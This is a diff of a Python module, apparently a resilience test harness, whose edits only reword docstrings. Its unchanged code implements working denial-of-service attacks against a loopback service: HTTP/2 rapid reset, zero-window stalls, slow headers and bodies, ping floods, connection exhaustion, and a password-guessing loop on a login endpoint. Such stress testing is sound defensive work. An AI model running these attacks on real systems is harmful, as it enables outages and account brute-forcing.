@@ -1,5 +1,5 @@
-"""What attackers send. Each attack is a function of a target: it yields once when its connections stand, and then again and
-again while it goes on. Its connections close when its process ends."""
+"""The traffic of attackers. Each attack is a generator on a target: it yields once when its connections are
+open, and then repeatedly while it continues. Its connections close when its process ends."""
 
 import errno
 import itertools
@@ -17,14 +17,14 @@ CONNECTIONS_AT_ONCE = 10_000
 
 
 class Target:
-    """The service, and the loopback addresses that attackers come from."""
+    """The service, and the loopback addresses of the attackers."""
 
     def __init__(self, port, addresses=8):
         self.port = port
         self.sources = itertools.cycle(f"127.0.{2 + n // 250}.{1 + n % 250}" for n in range(addresses))
 
     def connect(self, begin=b""):
-        """A connection that has sent this. It takes no time that the other side may take: the kernel holds what is sent."""
+        """Opens a connection and sends this, without waiting for the other side: the kernel buffers it."""
         connection = socket.socket()
         connection.bind((next(self.sources), 0))
         connection.settimeout(0.5)
@@ -32,7 +32,7 @@ class Target:
             connection.connect(("127.0.0.1", self.port))
             connection.sendall(begin)
         except OSError:
-            pass  # It is full, was closed, or takes no more.
+            pass  # The buffer is full, or the connection was closed.
         return connection
 
 
@@ -41,7 +41,7 @@ def frame(kind, flags, stream, payload=b""):
 
 
 def text(value):
-    """A string as HPACK writes it at its simplest; none here has more than 126 bytes."""
+    """Encodes a string in the simplest form of HPACK; none here has more than 126 bytes."""
     return bytes([len(value)]) + value.encode()
 
 
@@ -51,14 +51,14 @@ def head(method, path, fields=()):
 
 
 def hold(connections):
-    """Keeps connections and sends nothing."""
+    """Keeps connections open and sends nothing."""
     while connections:
         yield
         time.sleep(0.1)
 
 
 def trickle(target, connections, begin):
-    """Sends a byte on each connection every second, and opens those again that were closed."""
+    """Sends a byte on each connection every second, and reopens closed connections."""
     while True:
         yield
         for index, connection in enumerate(connections):
@@ -71,7 +71,7 @@ def trickle(target, connections, begin):
 
 
 def pour(target, count, begin, more):
-    """Sends on every connection as fast as it is taken, and opens those again that were closed."""
+    """Sends on every connection as fast as possible, and reopens closed connections."""
     connections = [target.connect(begin) for _ in range(count)]
     yield
     for connection in connections:
@@ -102,7 +102,7 @@ def pour(target, count, begin, more):
 
 
 def zero_windows(target, count=150):
-    """Connections over HTTP/2, each asking for a large file 100 times, with windows of 0."""
+    """HTTP/2 connections that each request a large file 100 times, with windows of 0."""
     settings = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
     ask = b"".join(
         frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, head("GET", FILE)) for n in range(100)
@@ -111,20 +111,20 @@ def zero_windows(target, count=150):
 
 
 def slow_heads(target, count=1_000):
-    """Connections over HTTP/1 with a head that does not end, and one byte more of it every second."""
+    """HTTP/1 connections with a head that does not end and grows by one byte per second."""
     begin = b"GET / HTTP/1.1\r\nhost: svc.test\r\nx: " + b"x" * 16_000
     yield from trickle(target, [target.connect(begin) for _ in range(count)], begin)
 
 
 def slow_bodies(target, count=1_000):
-    """Connections over HTTP/1 with a body that does not end, and one byte more of it every second."""
+    """HTTP/1 connections with a body that does not end and grows by one byte per second."""
     head = b"POST /api/v1/auth/login HTTP/1.1\r\nhost: svc.test\r\ncontent-type: application/json\r\n"
     begin = head + b"content-length: 16000\r\n\r\n" + b" " * 15_000
     yield from trickle(target, [target.connect(begin) for _ in range(count)], begin)
 
 
 def held_streams(target, count=150):
-    """Connections over HTTP/2, each with 100 requests of 100 fields whose bodies do not end."""
+    """HTTP/2 connections, each with 100 requests of 100 fields whose bodies do not end."""
     fields = [("content-type", "application/json")] + [("x", "y")] * 95
     begin = lambda stream: frame(HEADERS, END_HEADERS, stream, head("POST", "/api/v1/auth/login", fields))
     ask = b"".join(begin(2 * n + 1) + frame(DATA, 0, 2 * n + 1, b"x" * 600) for n in range(100))
@@ -132,19 +132,19 @@ def held_streams(target, count=150):
 
 
 def unread_answers(target, count=500):
-    """Connections over HTTP/1 that ask for a large file 50 times and read nothing."""
+    """HTTP/1 connections that request a large file 50 times and read nothing."""
     ask = f"GET {FILE} HTTP/1.1\r\nhost: svc.test\r\n\r\n".encode() * 50
     yield from hold([target.connect(ask) for _ in range(count)])
 
 
 def control_frames(target, count=20):
-    """Connections over HTTP/2 that send nothing but pings and settings, and come again when they are closed."""
+    """HTTP/2 connections that send only pings and settings, and are reopened when they are closed."""
     more = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 100
     yield from pour(target, count, PREFACE + frame(SETTINGS, 0, 0), lambda: more)
 
 
 def rapid_reset(target, count=20):
-    """Connections over HTTP/2 that begin requests and reset them at once, and come again when they are closed."""
+    """HTTP/2 connections that begin requests and reset them at once, and are reopened when closed."""
     streams = itertools.count(1, 2)
 
     def more():
@@ -172,8 +172,8 @@ def many_connections(target, count=CONNECTIONS_AT_ONCE):
 
 
 def guesses(target, count=64, rate=1_000, answers=None):
-    """Wrong passwords for one account, at this rate, by connections that read the answers: five pass for each address, and
-    then none for a minute."""
+    """Sends wrong passwords for one account at this rate, on connections that read the answers: five pass for each
+    address, and then none for a minute."""
     head = b"POST /api/v1/auth/login HTTP/1.1\r\nhost: svc.test\r\ncontent-type: application/json\r\n"
     connections = [target.connect() for _ in range(count)]
     yield
@@ -202,7 +202,7 @@ def guesses(target, count=64, rate=1_000, answers=None):
 
 
 def part(attack, share):
-    """The same attack with a part of its connections."""
+    """Returns the attack with a share of its connections."""
     count = attack.__defaults__[0] // share
     return lambda target: attack(target, count)
 
@@ -217,5 +217,5 @@ ALONE = (
     rapid_reset,
     many_connections,
 )
-# What runs at the same time, each in a process of its own.
+# The attacks that run at the same time, each in its own process.
 ATTACKS = {attack.__name__: [attack] for attack in ALONE} | {"all_of_them": [part(attack, 4) for attack in ALONE]}
